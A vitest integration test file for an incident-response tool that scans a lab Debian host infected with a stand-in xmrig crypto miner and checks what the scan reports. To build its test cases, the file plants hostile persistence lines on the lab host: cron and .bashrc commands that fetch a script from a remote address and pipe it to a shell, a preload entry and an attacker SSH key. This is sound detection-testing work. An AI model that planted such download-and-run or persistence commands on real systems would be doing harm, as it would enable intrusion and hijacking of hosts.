import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PlanContext, StepResult } from '../../src/actions/action.js';
import { ACTIONS } from '../../src/actions/registry.js';
import type { Finding } from '../../src/actions/scan.js';
import { parseAlerts } from '../../src/alert/intake.js';
import { DEFAULT_PLAYBOOK } from '../../src/cli/defaults.js';
import { loadConfig, type Config } from '../../src/config/config.js';
import { performStep, type StepIo } from '../../src/engine/perform-step.js';
import { buildPlan, type Plan, type PlannedStep } from '../../src/plan/plan.js';
import { loadPlaybook, type Playbook } from '../../src/playbook/load.js';
import { SshFleet } from '../../src/transport/ssh/fleet.js';
import { startLab, type Lab, type LabHost } from '../lab/lab.js';
import { eventually } from './support.js';
import { exampleHit, setField, sourceOf } from '../unit/alert/example.js';

// The scan on a real infected Debian host, through the step executor and the SSH fleet: lab 3.
const LAB_ID = 3;
const RULES = readFileSync(new URL('../../src/actions/remote/miners.yar', import.meta.url), 'utf8');

let lab: Lab;
let config: Config;
let playbook: Playbook;
let fleet: SshFleet;
let host: LabHost;
let io: StepIo;
/** The alert fired a minute before the tests: files the lab wrote at boot are newer. */
const alertTime = new Date(Date.now() - 60_000).toISOString();
const measured: Record<string, number> = {};

beforeAll(async () => {
  lab = await startLab({ hosts: 1, lab: LAB_ID });
  host = lab.hosts[0]!;
  config = await loadConfig(lab.configPath);
  playbook = await loadPlaybook(DEFAULT_PLAYBOOK, ACTIONS);
  fleet = new SshFleet(config);
  io = { host: fleet.transport(host.name), probe: () => fleet.probe(host.name), deliver: async () => undefined };
  await lab.infect(host.name, 'c3pool_miner.service', { staging: true });
}, 600_000);

afterAll(async () => {
  await fleet?.close();
  console.info('scan measurements (ms):', JSON.stringify(measured));
  await lab?.down();
}, 120_000);

function planFor(): Plan {
  const hit = exampleHit();
  for (const [field, value] of Object.entries({ 'host.name': host.name, '@timestamp': alertTime, 'file.path': '/tmp/c3pool_miner.service' })) {
    setField(sourceOf(hit), field, value);
  }
  return buildPlan({ alert: parseAlerts(hit)[0]!, playbook, config, actions: ACTIONS });
}

function contextOf(plan: Plan, step: PlannedStep): PlanContext {
  return { target: plan.target, config, runId: plan.runId, timeoutMs: step.timeoutMs, alertTime: plan.alert.timestamp };
}

/** The bundled playbook's scan step, run as soar runs it. */
async function runScan(): Promise<StepResult & { findings: Finding[] }> {
  const plan = planFor();
  const step = plan.steps.find((candidate) => candidate.action === 'scan')!;
  const started = Date.now();
  const result = await performStep(step, ACTIONS.get('scan')!, contextOf(plan, step), io);
  measured.scan = Math.max(measured.scan ?? 0, Date.now() - started);
  return { ...result, findings: result.evidence.findings as Finding[] };
}

/** Runs an isolation step of the same run, to see what the scan says about it. */
async function runIsolation(action: 'isolate' | 'release'): Promise<void> {
  const plan = planFor();
  const isolateStep = plan.steps.find((candidate) => candidate.action === 'isolate')!;
  const context = contextOf(plan, isolateStep);
  const step = action === 'isolate' ? isolateStep : { ...isolateStep, id: 'release', action, params: {}, commands: ACTIONS.get('release')!.plan({}, context) };
  await performStep(step, ACTIONS.get(action)!, context, io);
}

async function inHost(script: string): Promise<string> {
  const result = await lab.exec(host.name, ['sh', '-c', script]);
  expect(result, `${script} in ${host.name}`).toMatchObject({ exitCode: 0 });
  return result.stdout.trim();
}


const ofKind = (findings: Finding[], kind: string) => findings.filter((finding) => finding.kind === kind);
const pathsOf = (findings: Finding[], kind: string) => ofKind(findings, kind).map((finding) => finding.path).sort();

describe('scan on a host the C3Pool installer ran on, before remediation', () => {
  let scan: Awaited<ReturnType<typeof runScan>>;
  let minerPid: string;

  beforeAll(async () => {
    minerPid = await inHost('systemctl show -p MainPID --value c3pool_miner.service');
    scan = await runScan();
  });

  it('reports findings, with yara run and no isolation in place', () => {
    expect(scan.outcome).toBe('findings');
    expect(scan.changed).toBe(false);
    expect(scan.evidence).toMatchObject({ isolation: 'absent', yara: 'ran' });
  });

  it('finds the miner process by name and its pool connection', () => {
    expect(ofKind(scan.findings, 'miner_process')).toEqual([
      { kind: 'miner_process', path: '/root/c3pool/xmrig', evidence: `pid ${minerPid} comm xmrig: /root/c3pool/xmrig --config=/root/c3pool/config.json`, severity: 'high' },
    ]);
    expect(ofKind(scan.findings, 'pool_connection')).toEqual([
      { kind: 'pool_connection', path: `${lab.pool.address}:3333`, evidence: expect.stringMatching(new RegExp(`^xmrig\\[${minerPid}\\] ${host.address.replace(/\./g, '\\.')}:\\d+ → ${lab.pool.address.replace(/\./g, '\\.')}:3333$`)), severity: 'high' },
    ]);
  });

  it('finds the unit, its enablement link and its staging copy, and the ExecStart in /root', () => {
    expect(pathsOf(scan.findings, 'rule_unit')).toEqual([
      '/etc/systemd/system/c3pool_miner.service',
      '/etc/systemd/system/multi-user.target.wants/c3pool_miner.service',
      '/tmp/c3pool_miner.service',
    ]);
    expect(ofKind(scan.findings, 'exec_in_writable_dir')).toEqual([
      { kind: 'exec_in_writable_dir', path: '/etc/systemd/system/c3pool_miner.service', evidence: 'ExecStart=/root/c3pool/xmrig --config=/root/c3pool/config.json', severity: 'high' },
    ]);
  });

  it('finds the cron entry, the .profile line and the hugepages line (once, though Debian links sysctl.conf twice)', () => {
    const launch = '/root/c3pool/miner.sh --config=/root/c3pool/config_background.json >/dev/null 2>&1';
    expect(ofKind(scan.findings, 'cron')).toEqual([{ kind: 'cron', path: '/var/spool/cron/crontabs/root', evidence: `@reboot ${launch}`, severity: 'high' }]);
    expect(ofKind(scan.findings, 'login_script')).toEqual([{ kind: 'login_script', path: '/root/.profile', evidence: launch, severity: 'medium' }]);
    expect(ofKind(scan.findings, 'hugepages')).toEqual([{ kind: 'hugepages', path: '/etc/sysctl.conf', evidence: 'vm.nr_hugepages=1280', severity: 'low' }]);
  });

  it("matches soar's YARA rules on the stand-in's binary and configs, the cron entry and .profile, and nothing else on the host", () => {
    expect(ofKind(scan.findings, 'yara').map((finding) => `${finding.evidence} ${finding.path}`).sort()).toEqual([
      'soar_miner_installer /root/.profile',
      'soar_miner_installer /var/spool/cron/crontabs/root',
      'soar_stratum_client /root/c3pool/xmrig',
      'soar_xmrig_config /root/c3pool/config.json',
      'soar_xmrig_config /root/c3pool/config_background.json',
    ]);
  });

  it("compiles with the host's own yara, which says the same about the stand-in binary", async () => {
    expect(await inHost('command -v yara')).toBe('/usr/bin/yara');
    const result = await lab.exec(host.name, ['sh', '-c', 'printf "%s" "$1" >/run/soar-test.yar && yara --fail-on-warnings /run/soar-test.yar /root/c3pool/xmrig; status=$?; rm -f /run/soar-test.yar; exit $status', 'sh', RULES]);
    expect(result).toEqual({ exitCode: 0, stdout: 'soar_stratum_client /root/c3pool/xmrig\n', stderr: '' });
  });
});

describe('scan and isolation', () => {
  it('says whether the isolation holds, sees the isolated miner still trying its pool, and flags a changed table', async () => {
    await runIsolation('isolate');
    try {
      const scan = await eventually('a scan that catches a reconnection attempt', async () => {
        const result = await runScan();
        return ofKind(result.findings, 'pool_connection_attempt').length > 0 ? result : undefined;
      }, 20_000);
      expect(scan.evidence.isolation).toBe('present');
      expect(ofKind(scan.findings, 'pool_connection')).toEqual([]);
      expect(ofKind(scan.findings, 'pool_connection_attempt')).toEqual([
        expect.objectContaining({ path: `${lab.pool.address}:3333`, evidence: expect.stringMatching(/^xmrig\[\d+\] /), severity: 'high' }),
      ]);

      await inHost('nft add rule inet soar_isolation output ip daddr 198.19.0.0/16 accept');
      const altered = await runScan();
      expect(altered.evidence.isolation).toBe('altered');
      expect(ofKind(altered.findings, 'isolation_altered')).toEqual([expect.objectContaining({ severity: 'high' })]);
    } finally {
      await runIsolation('release');
    }
    expect((await runScan()).evidence.isolation).toBe('absent');
  });
});

describe('scan is read-only', () => {
  it('leaves every file it reads, and every directory it looks in, exactly as it was', async () => {
    const snapshot = () =>
      inHost(
        'find /etc /root /home /tmp /var/tmp /dev/shm /var/spool/cron /run/soar -xdev 2>/dev/null | sort | ' +
          "while read -r f; do if [ -f \"$f\" ]; then sha256sum \"$f\"; else stat -c '%n %Y %Z %s' \"$f\"; fi; done",
      );
    const before = await snapshot();
    expect(before).toContain('/etc/systemd/system/c3pool_miner.service');
    await runScan();
    expect(await snapshot()).toBe(before);
  });
});

describe('other footholds of the campaigns', () => {
  it("finds another rule unit running from /var/tmp, a user's own unit, a cron.d downloader, a .bashrc hook and ld.so.preload", async () => {
    await inHost(
      'mkdir -p /var/tmp/.ice-unix && printf "[Service]\\nExecStart=/var/tmp/.ice-unix/pnsd\\n" >/etc/systemd/system/pnsd.service && ' +
        'mkdir -p /home/analyst/.config/systemd/user && printf "[Service]\\nExecStart=/home/analyst/.cache/kswapd0\\n" >/home/analyst/.config/systemd/user/dbus-update.service && ' +
        'echo "* * * * * root wget -q -O - http://198.18.0.1/p.sh | sh" >/etc/cron.d/pnsd && ' +
        'echo "curl -fsSL http://198.18.0.1/x | bash >/dev/null 2>&1 &" >>/home/analyst/.bashrc && ' +
        'ls /usr/lib/x86_64-linux-gnu/libdl.so.2 >/etc/ld.so.preload',
    );
    try {
      const { findings } = await runScan();
      expect(ofKind(findings, 'rule_unit')).toContainEqual({ kind: 'rule_unit', path: '/etc/systemd/system/pnsd.service', evidence: '', severity: 'high' });
      expect(ofKind(findings, 'exec_in_writable_dir')).toContainEqual(expect.objectContaining({ path: '/etc/systemd/system/pnsd.service', evidence: 'ExecStart=/var/tmp/.ice-unix/pnsd' }));
      expect(ofKind(findings, 'exec_in_writable_dir')).toContainEqual(expect.objectContaining({ path: '/home/analyst/.config/systemd/user/dbus-update.service', evidence: 'ExecStart=/home/analyst/.cache/kswapd0' }));
      expect(ofKind(findings, 'cron')).toContainEqual({ kind: 'cron', path: '/etc/cron.d/pnsd', evidence: '* * * * * root wget -q -O - http://198.18.0.1/p.sh | sh', severity: 'high' });
      expect(ofKind(findings, 'login_script')).toContainEqual(expect.objectContaining({ path: '/home/analyst/.bashrc', evidence: 'curl -fsSL http://198.18.0.1/x | bash >/dev/null 2>&1 &' }));
      expect(ofKind(findings, 'ld_preload')).toEqual([{ kind: 'ld_preload', path: '/etc/ld.so.preload', evidence: '/usr/lib/x86_64-linux-gnu/libdl.so.2', severity: 'high' }]);
      // Debian's own cron jobs and login scripts are not findings.
      expect(findings.filter((finding) => /^\/etc\/(cron\.daily|cron\.d\/e2scrub_all|profile|bash\.bashrc)/.test(finding.path))).toEqual([]);
    } finally {
      await inHost('rm -rf /etc/systemd/system/pnsd.service /home/analyst/.config /etc/cron.d/pnsd /etc/ld.so.preload /var/tmp/.ice-unix && sed -i "/198.18.0.1/d" /home/analyst/.bashrc');
    }
  });

  it('finds authorized_keys written after the alert, and tells a backdated one from one older than the alert', async () => {
    await inHost(
      'install -d -m 700 -o analyst -g analyst /home/analyst/.ssh && echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAttackerKeyAttackerKeyAttackerKeyAttacker x@y" >/home/analyst/.ssh/authorized_keys && ' +
        'touch -d "2020-01-01 00:00:00" /root/.ssh/authorized_keys',
    );
    const { findings } = await runScan();
    // The lab wrote responder's key at boot, after the alert too.
    expect(ofKind(findings, 'authorized_keys_changed')).toEqual(
      ['analyst', 'responder'].map((user) => ({ kind: 'authorized_keys_changed', path: `/home/${user}/.ssh/authorized_keys`, evidence: expect.stringMatching(/^modified at \d+, 1 key line\(s\)$/), severity: 'medium' })),
    );
    // touch -d sets the modification time back, but not the inode's change time: minor, not hidden.
    expect(ofKind(findings, 'authorized_keys_touched')).toEqual([
      { kind: 'authorized_keys_touched', path: '/root/.ssh/authorized_keys', evidence: expect.stringMatching(/^modified at 1577836800, but its inode changed at \d+/), severity: 'low' },
    ]);
  });
});

describe('scan without yara', () => {
  it('says yara is missing on the host and still reports everything else', async () => {
    await inHost('chmod a-x /usr/bin/yara');
    try {
      const { findings, evidence, summary } = await runScan();
      expect(evidence.yara).toBe('missing');
      expect(summary).toMatch(/; yara missing$/);
      expect(ofKind(findings, 'yara')).toEqual([]);
      expect(pathsOf(findings, 'miner_process')).toEqual(['/root/c3pool/xmrig']);
    } finally {
      await inHost('chmod a+x /usr/bin/yara');
    }
  });
});

describe('scan after remediation', () => {
  it('no longer reports the miner process, its pool connection or the rule unit once they are gone; the other traces stay', async () => {
    await inHost(
      'systemctl disable --now --quiet c3pool_miner.service && rm -f /etc/systemd/system/c3pool_miner.service /tmp/c3pool_miner.service && ' +
        'systemctl daemon-reload && rm -rf /root/c3pool',
    );
    expect(await inHost('ss -Htn state established dst 198.19.0.0/16')).toBe('');
    const { findings, outcome } = await runScan();
    for (const kind of ['miner_process', 'pool_connection', 'pool_connection_attempt', 'rule_unit', 'exec_in_writable_dir']) {
      expect({ kind, found: ofKind(findings, kind) }).toEqual({ kind, found: [] });
    }
    expect(ofKind(findings, 'yara').map((finding) => finding.path).sort()).toEqual(['/root/.profile', '/var/spool/cron/crontabs/root']);
    expect(outcome).toBe('findings');
    expect(pathsOf(findings, 'cron')).toEqual(['/var/spool/cron/crontabs/root']);
    expect(pathsOf(findings, 'login_script')).toEqual(['/root/.profile']);
  });
});
